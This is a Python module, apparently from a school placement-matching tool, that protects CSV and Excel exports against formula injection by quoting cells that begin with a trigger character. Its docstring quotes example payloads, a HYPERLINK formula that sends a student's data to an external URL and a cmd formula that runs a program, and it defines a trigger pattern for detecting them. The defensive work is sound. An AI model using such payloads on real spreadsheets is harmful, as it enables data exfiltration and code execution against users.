"""Text cells that spreadsheet programs will not run (CSV and formula injection).

Host names, contacts, titles and notes come from outside parties. Opened in Excel or
LibreOffice, a CSV cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read as a formula: ``=HYPERLINK("http://…/?x="&A1,"click")`` sends a student's data away in
one click, ``=cmd|…`` runs a program. Following OWASP's advice on CSV injection, every text cell
written to a CSV file that starts with one of those characters gets a leading ``'`` (shown by
the spreadsheet, which then treats the rest as text), and text cells are quoted.

Quoting is not enough when a spreadsheet splits on another delimiter than the file's (French
Excel opens a ``,`` file splitting on ``;``, and then a quote in mid-field is plain text): the
part of ``x;=cmd|…`` after the ``;`` would become a cell of its own. So the same ``'`` is put
after every ``,``, ``;`` and line break that a trigger follows: whatever the delimiter, no cell
begins with a trigger. Quotes already there at such a place get one more, so :func:`restore`
(which the CSV loader applies) gives back exactly the text: a dataset written as CSV reads back
equal.

In a workbook, cells are never split: text is written as a string cell, and text that would run
if typed carries Excel's own *quote prefix* (the value stays exact and stays text when edited).

Ids and numbers stay exact: numbers are never text, and an id that would need a ``'`` is refused
by validation (see :func:`stagematch.model.inert_id`), so no id is ever changed.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet program read a cell as a formula (OWASP)."""

QUOTE = "'"
BOUNDARIES = frozenset(",;\n\r")
"""Characters after which a spreadsheet may start a new cell or row (wrong delimiter)."""


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would read ``text`` as a formula."""
    return text.startswith(TRIGGERS)


def _quotes_then_trigger(text: str, i: int) -> bool:
    """Whether ``text[i:]`` is zero or more ``'`` followed by a trigger."""
    while i < len(text) and text[i] == QUOTE:
        i += 1
    return i < len(text) and text[i] in TRIGGERS


_RUNNABLE = re.compile(
    "(?:^|["
    + re.escape("".join(sorted(BOUNDARIES)))
    + "])"
    + QUOTE
    + "*["
    + re.escape("".join(TRIGGERS))
    + "]"
)
"""Where :func:`neutralise` adds a quote: quotes then a trigger, at the start or after a
boundary. Most cells have none and are returned at once (an académie writes half a million)."""


def neutralise(value: Any) -> Any:
    """Text a spreadsheet would run made inert (see the module); anything else unchanged."""
    if not isinstance(value, str) or not _RUNNABLE.search(value):
        return value
    out: list[str] = []
    boundary = True
    for i, char in enumerate(value):
        if boundary and _quotes_then_trigger(value, i):
            out.append(QUOTE)
        out.append(char)
        boundary = char in BOUNDARIES
    return "".join(out)


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`, for a cell read back from a CSV file."""
    if QUOTE not in text:  # only quotes are ever dropped
        return text
    out: list[str] = []
    boundary = True
    for i, char in enumerate(text):
        drop = boundary and char == QUOTE and _quotes_then_trigger(text, i + 1)
        if not drop:
            out.append(char)
        boundary = char in BOUNDARIES and not drop
    return "".join(out)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell neutralised (numbers and dates untouched)."""
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise)
    return out


def write_csv(frame: pd.DataFrame, path: str | Path) -> None:
    """``frame`` as a UTF-8 CSV that spreadsheet programs open without running anything.

    Text cells are neutralised and quoted; numbers are written bare, exactly as pandas would.
    The header is written plain (``offer_id,host_id,...``) so that a table meant to be pasted
    into a dataset's file looks like one.
    """
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerow(
            [neutralise(str(c)) for c in frame.columns]
        )
        neutralise_frame(frame).to_csv(
            handle, index=False, header=False, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n"
        )


def text_cell(sheet: Any, value: str) -> Any:
    """A workbook cell for ``value`` that is always text, never a formula.

    openpyxl turns a string beginning with ``=`` into a formula; this cell is typed as a string
    and, when the text would run if typed, carries Excel's quote prefix so it stays text when a
    user edits it.
    """
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell
